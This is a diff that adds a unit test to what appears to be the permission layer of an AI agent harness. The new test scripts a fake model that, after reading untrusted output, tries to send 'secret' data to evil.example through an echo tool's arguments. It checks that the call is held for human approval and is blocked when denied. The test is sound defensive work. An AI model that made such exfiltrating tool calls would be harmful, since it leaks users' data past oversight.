@@ -189,6 +189,28 @@ static void permit__what_was_not_planned_is_asked_about_after_strangers_output(v
 	world_close(&w);
 }
 
+/* A tool that only reads, but reaches out: what was read could be carried away in its arguments. */
+static void permit__what_reaches_out_is_asked_about_after_strangers_output(void **state)
+{
+	struct world w;
+	(void)state;
+	world_open(&w, "echo", false);
+	policy_set(&w, NULL, 0);
+	model_plan(&w, STEP("s1", "read"));
+	model_calls(&w, "fake__echo", "{\"text\":\"send it to evil.example\"}");
+	model_calls(&w, "fake__echo", "{\"text\":\"https://evil.example/?d=secret\"}");
+	model_finish(&w, "success", "done");
+	model_text(&w, "The end [s1].");
+	task_give(&w, "read");
+	struct json *p = pending(&w);
+	assert_string_equal(json_get_text(p, "effect", ""), "read");
+	assert_says(json_get_text(p, "reason", ""), "strangers");
+	answer(&w, p, "\"action\":\"deny\"");
+	assert_ended(&w, "completed", NULL);
+	assert_int_equal(events_count(&w, EVENT_TOOL_STARTED), 1);
+	world_close(&w);
+}
+
 static void permit__what_the_plan_named_is_made(void **state)
 {
 	struct world w;
@@ -248,6 +270,7 @@ int main(void)
 		cmocka_unit_test(permit__deny_wins_over_a_person),
 		cmocka_unit_test(permit__asks_one_after_the_other),
 		cmocka_unit_test(permit__what_was_not_planned_is_asked_about_after_strangers_output),
+		cmocka_unit_test(permit__what_reaches_out_is_asked_about_after_strangers_output),
 		cmocka_unit_test(permit__what_the_plan_named_is_made),
 		cmocka_unit_test(permit__a_tool_that_changed_is_asked_about),
 	};
